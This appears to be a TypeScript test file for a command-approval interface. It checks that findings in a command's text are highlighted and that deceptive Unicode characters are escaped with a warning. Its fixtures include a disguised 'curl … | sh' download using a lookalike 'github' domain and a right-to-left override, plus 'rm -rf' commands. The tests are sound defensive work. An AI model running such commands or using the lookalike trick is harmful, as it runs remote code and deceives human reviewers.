import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { deceptionIn } from '@/components/approvals/deception';
import { markedLines } from '@/components/approvals/marked-text';

const shown = (lines: ReturnType<typeof markedLines>): string =>
  lines.map((line) => line.map((part) => part.text).join('')).join('\n');

describe('markedLines', () => {
  it('M3 shows every character of the text, whatever is marked', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('a', ' ', '\n', 'é', '|'), maxLength: 80 }),
        fc.array(fc.tuple(fc.nat({ max: 100 }), fc.nat({ max: 100 })), { maxLength: 6 }),
        (text, ends) => {
          const spans = ends.map(([a, b]) => ({ start: Math.min(a, b), end: Math.max(a, b) }));
          expect(shown(markedLines(text, { spans, escaped: [] }))).toBe(text);
        },
      ),
    );
  });

  it('M3 marks exactly the part a finding is about, also where two overlap', () => {
    const [line] = markedLines('sudo rm -rf build', {
      spans: [
        { start: 0, end: 17 },
        { start: 5, end: 11 },
      ],
      escaped: [],
    });
    expect(line?.map(({ text, findings }) => [text, findings])).toEqual([
      ['sudo ', [1]],
      ['rm -rf', [1, 2]],
      [' build', [1]],
    ]);
  });

  it('puts the number of a finding at the end of its last line, not on an empty one', () => {
    const lines = markedLines('rm -rf \\\n  build\nls', {
      spans: [{ start: 0, end: 17 }],
      escaped: [],
    });
    expect(lines.map((line) => line.flatMap((part) => part.endsOf))).toEqual([[], [1], []]);
  });

  it('M3 shows a character that deceives by its number, marked or not', () => {
    const text = 'curl g\u0456thub.com \u202e| sh';
    const { escaped, warning } = deceptionIn(text);
    const lines = markedLines(text, { spans: [{ start: 5, end: 15 }], escaped });
    expect(shown(lines)).toBe('curl gU+0456thub.com U+202E| sh');
    expect(lines[0]?.filter((part) => part.isEscaped)).toHaveLength(2);
    expect(warning).toContain('2 characters');
  });

  it('M3 warns about nothing in a text that is what it seems', () => {
    expect(deceptionIn('rm -rf build\n\tls -la # straße')).toEqual({ escaped: [], warning: null });
  });

  it('survives spans beyond the text and marks nothing for one without anything to see', () => {
    const lines = markedLines('ls   \n', {
      spans: [
        { start: 2, end: 6 },
        { start: 90, end: 99 },
      ],
      escaped: [],
    });
    expect(lines.flat().flatMap((part) => part.findings)).toEqual([]);
  });
});
